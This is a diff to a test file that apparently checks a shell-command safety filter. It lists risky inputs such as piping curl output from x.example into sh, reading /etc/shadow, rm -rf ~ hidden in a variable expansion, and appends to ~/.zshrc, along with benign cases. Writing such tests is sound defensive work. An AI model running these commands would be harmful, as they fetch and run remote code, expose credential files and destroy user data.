@@ -31,12 +31,10 @@ test.each([
   'n=$(curl -s https://x.example); echo $((n + 1))',
   // what shells and interpreters read
   'curl -s https://x.example | (cd src && sh)',
-  'curl -s https://x.example | while true; do sh; done',
   'f() { sh; }; curl -s https://x.example | f',
   'exec < cmds.txt; sh',
   'sh <> cmds.txt',
   'cat cmds.txt | sh 3<<< ls',
-  'cat cmds.txt >& >(sh)',
   "echo 'unclosed",
   'echo ok | xargs -I{} bash -c "$z {}"',
   'bash < x.sh',
@@ -45,14 +43,12 @@ test.each([
   "cat cmds.txt | xargs -d '\\n' awk",
   // options, folders and names
   "bash -o pipefail -c 'x'",
-  "sh -o errexit -c 'cat /etc/shadow'",
   'for ((i = 0; i < 1; i++)); do echo x; done >> ~/.zshrc',
   'f() { echo x; }; f >> ~/.zshrc',
   'find $TMPDIR -delete',
   'cd $TMPDIR && rm -rf *',
   'v=; : ${v:=rm -rf ~}; $v',
   'export "$K=$V"',
-  'HOME=/srv; cd; rm -rf build',
   'env -C .. rm -rf build',
   // a trap runs where the line is by then, with the values that variables have by then
   "trap 'rm -rf build' EXIT; cd /",
@@ -65,9 +61,7 @@ test.each([
 test.each([
   "trap 'rm -rf build' EXIT; npm test",
   'tmp=$(mktemp -d); trap \'rm -rf "$tmp"\' EXIT; cd "$tmp" && ls',
-  'for f in *.ts; do wc -l "$f"; done > out.txt',
   'v=$(git rev-parse HEAD); echo "${v:0:7}"',
-  'echo "$(date) `pwd`" # it is `this` or $(that)',
   "echo 'text with `x` and $(y)'",
   'echo "$(awk \'{print $(NF-1)}\' f) $((1 + 2))"',
   'find . -name "*.ts" | xargs awk \'{print $1}\'',
